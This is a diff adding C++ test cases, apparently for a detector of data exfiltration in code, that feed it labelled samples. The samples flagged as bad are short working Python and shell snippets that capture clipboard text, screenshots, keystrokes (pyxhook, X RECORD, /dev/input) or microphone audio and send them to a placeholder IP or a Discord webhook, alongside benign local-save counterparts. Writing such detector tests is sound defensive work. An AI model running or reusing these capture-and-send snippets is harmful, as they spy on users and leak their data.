@@ -287,5 +287,52 @@ TEST(CoverageClasses, MoreCredentialStoresAndPrinters) {
   for (const auto& c : cases) check(c);
 }
 
+// Capture the model did not know: Qt's and GTK's clipboards, more screenshot
+// libraries and ImageMagick's `import`, keyboard hooks set as attributes
+// (pyxhook) and the X RECORD extension, keyboards read from /dev/input, and
+// recordings written to a file by an audio library.
+TEST(CoverageClasses, MoreCaptureThatLeaves) {
+  const Case cases[] = {
+      {"Qt clipboard sent", B,
+       "import requests\nfrom PyQt5.QtWidgets import QApplication\napp = QApplication([])\n"
+       "requests.post('http://198.51.100.41/c', data=app.clipboard().text())\n",
+       "EXFILTRATION"},
+      {"GTK clipboard sent", B,
+       "import requests\nfrom gi.repository import Gtk, Gdk\ncb = Gtk.Clipboard.get(Gdk.SELECTION_CLIPBOARD)\n"
+       "requests.post('http://198.51.100.41/c', data=cb.wait_for_text())\n",
+       "EXFILTRATION"},
+      {"pyscreenshot to a webhook", B,
+       "import pyscreenshot, requests\npyscreenshot.grab().save('s.png')\n"
+       "requests.post('https://discord.com/api/webhooks/1/x', files={'f': open('s.png', 'rb')})\n",
+       "EXFILTRATION"},
+      {"ImageMagick import then curl", B, "import -window root /tmp/s.png && curl -F f=@/tmp/s.png http://198.51.100.41/s\n",
+       "EXFILTRATION", SH},
+      {"pyxhook keys to a socket", B,
+       "import pyxhook, socket\ns = socket.create_connection(('198.51.100.41', 9000))\n"
+       "def onkey(event):\n    s.send(event.Key.encode())\nhm = pyxhook.HookManager()\nhm.KeyDown = onkey\nhm.start()\n",
+       "EXFILTRATION"},
+      {"X RECORD keylogger", B,
+       "from Xlib import display\nimport requests\nd = display.Display()\n"
+       "def cb(reply):\n    requests.post('http://198.51.100.41/x', data=reply.data)\n"
+       "d.record_enable_context(None, cb)\n",
+       "EXFILTRATION"},
+      {"/dev/input read and sent", B,
+       "import socket\ns = socket.create_connection(('198.51.100.41', 9001))\nwith open('/dev/input/event0', 'rb') as f:\n"
+       "    while True:\n        s.send(f.read(24))\n",
+       "EXFILTRATION"},
+      {"a microphone recording uploaded", B,
+       "import sounddevice as sd, soundfile as sf, requests\nrec = sd.rec(441000, samplerate=44100, channels=1)\n"
+       "sf.write('r.wav', rec, 44100)\nrequests.post('http://198.51.100.41/a', files={'f': open('r.wav', 'rb')})\n",
+       "EXFILTRATION"},
+      // Neighbours: captures kept on the machine, text put on the clipboard.
+      {"a screenshot saved", L, "import pyscreenshot\npyscreenshot.grab().save('screen.png')\n"},
+      {"text copied to the Qt clipboard", L,
+       "from PyQt5.QtWidgets import QApplication\napp = QApplication([])\napp.clipboard().setText('generated')\n"},
+      {"a recording saved", L,
+       "import sounddevice as sd, soundfile as sf\nrec = sd.rec(441000, samplerate=44100, channels=1)\nsf.write('memo.wav', rec, 44100)\n"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
 }  // namespace
 }  // namespace mai::assess::test
